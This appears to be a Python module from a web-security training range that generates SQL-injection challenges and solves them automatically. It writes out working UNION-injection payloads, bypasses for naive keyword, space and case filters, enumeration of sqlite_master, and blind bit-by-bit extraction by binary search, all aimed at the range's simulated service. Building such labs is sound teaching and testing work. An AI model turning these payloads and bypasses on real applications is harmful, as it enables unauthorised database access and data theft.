"""What the contexts of SQL injection share: filters, how to pass them, and reading bit by bit."""

from __future__ import annotations

import re
from collections.abc import Callable, Mapping, Sequence
from http import HTTPStatus

from openrange.packs.webapp.database import QueryError
from openrange.packs.webapp.doors.door import Door, Visit
from openrange.packs.webapp.keys import ALPHABET

TYPE_CHECKING = False
if TYPE_CHECKING:
    from typing import Any

    from openrange.packs.webapp.client import Client
    from openrange.packs.webapp.world import Door as Door_
    from openrange.worlds.draw import Draw
    from openrange.worlds.http import Response

FILTERS = ("none", "spaces", "comments", "once", "case")
"""What a search does to a term before it is pasted, and thinks to be safe then."""

MAX_PARENTHESES = 2
_LONGEST_VALUE = 60
_CODES = [ord(character) for character in ALPHABET]
_WORDS = ("union", "select")


class ShowsErrors(Door):
    """A door that says what is wrong with its statement."""

    def answer(self, visit: Visit) -> Response | None:
        """The page, or the database's own words."""
        try:
            return super().answer(visit)
        except QueryError as error:
            said = self.site.phrase("error", reason=str(error))
        return self.said(visit, HTTPStatus.INTERNAL_SERVER_ERROR, said)


def pasted(draw: Draw) -> Mapping[str, Any]:
    """The facts of a statement that UNION can follow: a filter, and how many parentheses are open
    where the text lands.
    """
    return {"filter": draw.pick(FILTERS), "parentheses": draw.number(0, MAX_PARENTHESES)}


def read(
    client: Client, door: Door_, facts: Mapping[str, Any], quote: str, columns: Sequence[str]
) -> str | None:
    """Read the names of the tables, then the one that no page shows.

    Args:
        client: A client of the service.
        door: The door with the statement.
        facts: What is drawn.
        quote: What stands around the pasted text, as `union` takes it.
        columns: What the SELECT has to have, with `{}` where a value is shown.

    Returns:
        What the service's weakness gives away, or None.
    """
    table, column = client.words["tables"]["vault"], client.words["columns"]["value"]
    select = f"SELECT {','.join(columns)} FROM "  # noqa: S608 - what an attacker sends
    names = union(facts, quote, select.format("name") + "sqlite_master")
    if f">{table}<" not in client.send(door, names).body:
        return None
    return client.key(client.send(door, union(facts, quote, select.format(column) + table)))


def filtered(how: str, term: str) -> str:
    """A term, filtered as one of `FILTERS` says."""
    if how == "spaces":
        return term.replace(" ", "")
    if how == "comments":
        return term.replace("--", "").replace("/*", "")
    if how == "once":
        for word in _WORDS:
            term = re.sub(word, "", term, count=1, flags=re.IGNORECASE)
    if how == "case" and any(word in term or word.upper() in term for word in _WORDS):
        return ""
    return term


def disguised(how: str, payload: str) -> str:
    """A payload that means the same once it is filtered.

    Args:
        how: One of `FILTERS`, but for `comments`, which a payload has to do without.
        payload: With UNION and SELECT in capital letters.

    Returns:
        What to send.
    """
    if how == "spaces":
        return payload.replace(" ", "/**/")
    if how == "once":
        for word in _WORDS:
            upper = word.upper()
            payload = payload.replace(upper, upper[:2] + upper + upper[2:], 1)
    if how == "case":
        payload = payload.replace("UNION", "UnIoN").replace("SELECT", "SeLeCt")
    return payload


def union(facts: Mapping[str, Any], quote: str, select: str) -> str:
    """A payload that ends the pasted text, and adds the rows of another SELECT.

    Args:
        facts: What is drawn: `filter` and `parentheses`.
        quote: What stands around the pasted text: `'`, `%'` for a part of a pattern, or nothing.
        select: The rows.

    Returns:
        What to send.
    """
    count = facts["parentheses"]
    start = f"zz'{')' * count}" if quote else f"-1{')' * count}"
    if facts["filter"] != "comments":
        return disguised(facts["filter"], f"{start} UNION {select} --")
    ending = quote.removesuffix("'")
    rest = f"'{ending}'='" if quote else "1=1"
    return f"{start} UNION {select} WHERE {'(' * count}{rest}"


def extracted(is_true: Callable[[str], bool], column: str, table: str) -> str | None:
    """The one value of a column, by yes and no.

    Args:
        is_true: Asks whether a condition holds.
        column: The column.
        table: The table, which has one row.

    Returns:
        The value, of characters of `ALPHABET`; None where the answers do not depend on what is
        asked, or the value has other characters.
    """
    if not is_true("1=1") or is_true("1=0"):
        return None
    text = ""
    while len(text) < _LONGEST_VALUE:
        what = f"(SELECT unicode(substr({column},{len(text) + 1},1)) FROM {table})"  # noqa: S608
        low, high = 0, len(_CODES) - 1
        while low < high:
            middle = (low + high) // 2
            if is_true(f"{what}>{_CODES[middle]}"):
                low = middle + 1
            else:
                high = middle
        if low in (0, len(_CODES) - 1) and not is_true(f"{what}={_CODES[low]}"):
            break
        text += ALPHABET[low]
    return text or None
